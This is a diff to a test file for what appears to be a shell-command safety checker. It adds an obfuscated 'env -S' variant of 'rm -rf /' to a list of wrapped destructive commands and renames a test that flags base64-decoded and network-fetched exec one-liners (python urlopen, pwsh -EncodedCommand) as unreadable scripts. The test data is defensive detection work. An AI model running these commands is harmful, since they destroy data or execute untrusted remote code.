@@ -71,6 +71,7 @@ describe('wrappers', () => {
     'env - rm -rf /',
     "env -S 'PATH=/usr/bin' rm -rf /",
     "env -S 'rm -rf' /",
+    `env -S 'r"m" -r\\f' /`,
     "echo 'rm -rf /' | xargs -I{} bash -c {}",
     "echo / | xargs --replace bash -c 'rm -rf {}'",
     "echo / | xargs -i bash -c 'rm -rf {}'",
@@ -252,7 +253,7 @@ describe('the flow of a line', () => {
     `python3 -c "import base64; exec(base64.b64decode('eA=='))"`,
     `python3 -c "import urllib.request as u; exec(u.urlopen('http://x').read())"`,
     'pwsh -EncodedCommand eA==',
-  ])('sees code that runs what nobody can read: %s', (line) => {
+  ])('sees code that runs what cannot be read: %s', (line) => {
     expect(acts(line)).toContainEqual(expect.objectContaining({ act: 'blind-script' }));
   });
 
